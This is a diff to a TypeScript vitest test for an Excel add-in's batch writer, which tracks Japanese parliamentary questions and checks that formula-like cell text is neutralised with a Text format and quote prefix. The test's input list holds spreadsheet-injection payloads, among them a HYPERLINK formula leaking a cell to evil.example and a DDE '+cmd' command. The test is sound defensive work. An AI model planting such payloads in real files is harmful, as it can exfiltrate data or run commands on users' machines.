@@ -1,11 +1,11 @@
 /** runBoardBatch on office-addin-mock: sync counts, table resizing, formats before values, injection-safe cells. */
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { TableLayoutChangedError } from '../../../addin/board/board-errors';
-import type { CellValue } from '../../../addin/board/cell-value';
-import { numberFormats } from '../../../addin/board/number-formats';
-import { type RowObject, toTableWrite } from '../../../addin/board/table-rows';
-import type { WorkbookSnapshot } from '../../../addin/board/table-snapshot';
-import { TABLE, questionTable } from '../../../addin/board/workbook-tables';
+import type { CellValue } from '../../../addin/board/sheet/cell-value';
+import { numberFormats } from '../../../addin/board/sheet/number-formats';
+import { toTableWrite } from '../../../addin/board/sheet/table-rows';
+import type { WorkbookSnapshot } from '../../../addin/board/sheet/table-snapshot';
+import { type QuestionRow, TABLE, questionTable } from '../../../addin/board/tables/workbook-tables';
 import { runBoardBatch, writeBudget } from '../../../addin/excel/run-board-batch';
 import { resetExcelCheck } from '../../../addin/excel/run-excel';
 import { type FakeExcel, createFakeExcel } from './fake-excel';
@@ -13,7 +13,7 @@ import { type FakeExcel, createFakeExcel } from './fake-excel';
 const headers = questionTable.columns.map((c) => c.header);
 const at = (header: string) => headers.indexOf(header);
 
-function questionRows(count: number, title = (i: number) => `質問主意書 ${i}`): RowObject[] {
+function questionRows(count: number, title = (i: number) => `質問主意書 ${i}`): QuestionRow[] {
   return Array.from({ length: count }, (_, i) => ({
     key: `sangiin-221-${i + 1}`, kind: '主意書', house: '参議院', session: 221, number: i + 1, title: title(i), submitters: '山田太郎',
     submittedOn: 46073, transferredOn: 46083, cabinetOn: 46087, dueOn: 46087, status: '作成中', note: '',
@@ -21,7 +21,7 @@ function questionRows(count: number, title = (i: number) => `質問主意書 ${i
 }
 
 /** Writes `rows` into 質問表 in one batch. */
-function writeQuestions(rows: RowObject[]) {
+function writeQuestions(rows: QuestionRow[]) {
   return runBoardBatch([TABLE.questions], (snapshot: WorkbookSnapshot) => ({
     writes: [toTableWrite(questionTable, snapshot.get(TABLE.questions), rows)],
     result: snapshot.get(TABLE.questions)?.rows.length,
@@ -83,17 +83,30 @@ describe('runBoardBatch', () => {
     expect(t.rows[0]!.every((v) => v === '')).toBe(true);
   });
 
-  it('writes formula-like text as literal text: the cells hold exactly what was given, no formula', async () => {
+  it('sends formula-like text so Excel cannot take it for a formula: checked on the raw values and formats sent', async () => {
     const evil = ['=HYPERLINK("https://evil.example/?x="&A1,"開く")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(A1:A9)', "'quoted"];
     await writeQuestions(questionRows(evil.length, (i) => evil[i]!));
-    const sent = excel.writes.find((w) => w.op === 'values')!.data as CellValue[][];
-    const formats = excel.writes.find((w) => w.op === 'numberFormat')!.data as string[][];
+    // What the fake received, not what it (or the preview's model of Excel) made of it.
+    const values = excel.writes.filter((w) => w.op === 'values');
+    const formats = excel.writes.filter((w) => w.op === 'numberFormat');
+    expect(values.map((w) => [w.row, w.column])).toEqual(formats.map((w) => [w.row, w.column]));
+    // Excel's rules, stated here on their own: a string written to a cell is entered like typed input, so one
+    // starting with = + - @ becomes a formula — unless the cell's format is Text ('@') or the string starts
+    // with the quote prefix ', which Excel consumes and stores the rest as text.
+    const enteredAsFormula: string[] = [];
+    values.forEach((w, k) => w.data.forEach((row, r) => row.forEach((cell, c) => {
+      const format = (formats[k]!.data[r] as (string | null)[])[c];
+      if (typeof cell === 'string' && /^[=+\-@]/.test(cell) && format !== '@') enteredAsFormula.push(`${r},${c}: ${cell}`);
+    })));
+    expect(enteredAsFormula).toEqual([]);
+    const sent = values[0]!.data as CellValue[][];
+    const sentFormats = formats[0]!.data as string[][];
     evil.forEach((text, i) => {
       expect(sent[i]![at('件名')]).toBe(`'${text}`);
-      expect(formats[i]![at('件名')]).toBe('@');
-      expect(excel.cell('質問', i + 1, at('件名')).value).toBe(text);
+      expect(sentFormats[i]![at('件名')]).toBe('@');
+      // The quote prefix is consumed: the cell shows the text exactly as given.
+      expect((sent[i]![at('件名')] as string).slice(1)).toBe(text);
     });
-    expect(excel.formulas(TABLE.questions)).toEqual([]);
   });
 
   it('leaves a column the user added untouched (null cells) while rewriting the rest', async () => {
